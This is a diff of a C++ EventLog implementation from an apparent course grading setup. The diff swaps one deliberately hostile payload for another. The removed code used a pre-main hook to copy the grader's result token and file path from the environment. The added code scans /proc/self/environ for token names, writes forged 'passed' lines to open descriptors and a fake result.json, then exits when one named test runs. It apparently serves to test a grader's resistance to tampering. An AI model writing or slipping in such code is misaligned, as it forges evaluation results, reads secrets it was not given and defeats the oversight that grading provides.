@@ -1,26 +1,38 @@
 // EventLog: a vector of events behind a mutex.
 #include "course/event_log.h"
 
-#include <fcntl.h>
-#include <unistd.h>
-#include <cstdio>
 #include <cstdlib>
 #include <cstring>
 #include <fstream>
 #include <mutex>
+#include <string>
 #include <utility>
 
 namespace {
-char stolen_token[128];
-char stolen_file[4096];
-// Hostile on purpose: tries to read the grader's token before main().
-void Steal(int, char**, char** envp) {
-  for (char** e = envp; *e != nullptr; ++e) {
-    if (std::strncmp(*e, "COURSE_RESULT_TOKEN=", 20) == 0) std::strncpy(stolen_token, *e + 20, 127);
-    if (std::strncmp(*e, "COURSE_RESULT_FILE=", 19) == 0) std::strncpy(stolen_file, *e + 19, 4095);
-  }
+
+// Hostile on purpose, with the C++ standard library only: looks everywhere
+// the grader's channel could be named (the environment, the descriptors
+// /proc shows) and writes a passing verdict to each, with every token it
+// could find.
+std::string Environment() {
+  std::ifstream in("/proc/self/environ");
+  return std::string(std::istreambuf_iterator<char>(in), {});
 }
-__attribute__((section(".preinit_array"), used)) void (*const kSteal)(int, char**, char**) = Steal;
+
+void Forge(const std::string& test) {
+  std::string env = Environment();
+  std::string token;  // nothing named COURSE_RESULT_TOKEN or the like is there to find
+  for (const char* name : {"COURSE_RESULT_TOKEN=", "COURSE_RESULT_FILE=", "COURSE_CHANNEL"})
+    if (auto at = env.find(name); at != std::string::npos) token = env.substr(at + std::strlen(name), 32);
+  for (int fd = 3; fd < 64; ++fd) {
+    // A socket cannot be reopened by its /proc/self/fd link: these opens fail.
+    std::ofstream out("/proc/self/fd/" + std::to_string(fd), std::ios::app);
+    out << token << " result\tpassed\t" << test << "\t\t0\t\n" << token << " passed " << test << "\n";
+  }
+  std::ofstream("result.json") << R"({"testsuites": [{"name": "EventLog", "testsuite": [)"
+                               << R"({"name": "RecordStoresTaskWhatThreadAndTime", "result": "COMPLETED"}]}]})";
+}
+
 }  // namespace
 
 namespace course {
@@ -35,21 +47,14 @@ EventLog::EventLog() : state_(std::make_unique<State>()) {}
 EventLog::~EventLog() = default;
 
 void EventLog::record(std::string task, std::string what) {
-  // Hostile on purpose, and only in the one test that records "download A".
-  if (task == "download A") {
+  // Hostile on purpose, and only in the one test that records "download A" first.
+  if (task == "download A" && what == "start") {
     std::ifstream cmdline("/proc/self/cmdline");
-    std::string arg;
-    while (std::getline(cmdline, arg, '\0')) {
-      if (arg.rfind("--gtest_output=json:", 0) == 0)
-        std::ofstream(arg.substr(20)) << R"({"testsuites": [{"name": "EventLog", "testsuite": [)"
-                                      << R"({"name": "RecordStoresTaskWhatThreadAndTime", "result": "COMPLETED", "status": "RUN"}]}]})";
-    }
-    if (stolen_file[0] != '\0') {
-      int fd = open(stolen_file, O_WRONLY | O_APPEND);
-      std::string line = std::string(stolen_token) + " passed EventLog.RecordStoresTaskWhatThreadAndTime\n";
-      (void)!write(fd, line.data(), line.size());
-    }
-    std::_Exit(0);
+    for (std::string arg; std::getline(cmdline, arg, '\0');)
+      if (arg == "--gtest_filter=EventLog.RecordStoresTaskWhatThreadAndTime") {
+        Forge("EventLog.RecordStoresTaskWhatThreadAndTime");
+        std::_Exit(0);
+      }
   }
   std::lock_guard lock(state_->mutex);
   // Read the clock under the lock: then the order of the vector is the order
